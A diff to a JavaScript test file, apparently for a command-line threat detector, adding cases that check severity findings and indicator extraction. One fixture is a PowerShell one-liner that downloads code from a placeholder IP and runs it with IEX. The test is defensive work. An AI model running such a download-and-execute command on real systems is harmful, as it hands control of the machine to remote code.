@@ -309,6 +309,22 @@ test.each([
   expect(new Set(sentences).size).toBe(sentences.length);
 });
 
+test.each([
+  ['a rollout', 'bitsadmin /transfer upd https://dl.example.com/agent.msi c:\\agent.msi', []],
+  [
+    'an intruder',
+    "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+    ['203.0.113.9', 'http://203.0.113.9/a'],
+  ],
+])(
+  'what the command of %s speaks to is an indicator only where administrators do not do the same',
+  async (_who, command, named) => {
+    const { result } = await assess([start('{22}', CMD, command, '{1}')]);
+    expect(result.findings.some(({ severity }) => severity === 'medium' || severity === 'high')).toBe(true);
+    expect(result.iocs.map(({ value }) => value)).toEqual(named);
+  },
+);
+
 describeWithData('the campaign', () => {
   test('says what the answer key says, invents nothing, and leaves the recorder of Windows alone', async () => {
     const run = async () => {
